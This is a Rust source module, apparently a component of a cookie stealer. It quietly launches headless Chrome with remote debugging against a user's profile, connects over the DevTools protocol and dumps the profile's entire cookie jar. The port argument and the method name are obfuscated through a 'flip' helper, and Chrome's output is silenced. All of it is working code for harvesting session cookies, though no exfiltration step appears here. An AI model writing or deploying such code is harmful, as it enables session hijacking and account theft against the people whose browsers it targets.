//! Chrome DevTools Protocol, enough to read the cookie jar of a profile.

use crate::flip;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Duration;

fn chrome_running() -> bool {
    Command::new("tasklist")
        .args(["/FI", "IMAGENAME eq chrome.exe", "/NH"])
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).contains("chrome.exe"))
        .unwrap_or(true)
}

pub fn dump_cookies(user_data: &Path) -> Option<Vec<serde_json::Value>> {
    if chrome_running() {
        return None;
    }
    let exe = ["ProgramFiles", "ProgramFiles(x86)", "LOCALAPPDATA"]
        .iter()
        .filter_map(|v| std::env::var_os(v))
        .map(|p| Path::new(&p).join("Google").join("Chrome").join("Application").join("chrome.exe"))
        .find(|p| p.exists())?;
    let port_arg = flip::right(flip::PORT_ARG);
    let port = port_arg.rsplit('=').next()?.to_string();
    let mut child = Command::new(exe)
        .arg("--headless=new")
        .arg(&port_arg)
        .arg(format!("--user-data-dir={}", user_data.display()))
        .args(["--profile-directory=Default", "--no-first-run", "--disable-gpu", "about:blank"])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .ok()?;
    std::thread::sleep(Duration::from_secs(3));
    let result = (|| {
        let info: serde_json::Value = reqwest::blocking::get(format!("http://127.0.0.1:{port}/json/version")).ok()?.json().ok()?;
        let ws = info["webSocketDebuggerUrl"].as_str()?.to_string();
        let (mut socket, _) = tungstenite::connect(ws).ok()?;
        let call = serde_json::json!({"id": 1, "method": flip::right(flip::METHOD)});
        socket.send(tungstenite::Message::text(call.to_string())).ok()?;
        for _ in 0..20 {
            let msg = socket.read().ok()?;
            let v: serde_json::Value = serde_json::from_str(msg.to_text().ok()?).ok()?;
            if v["id"] == 1 {
                return v["result"]["cookies"].as_array().cloned();
            }
        }
        None
    })();
    let _ = child.kill();
    result
}
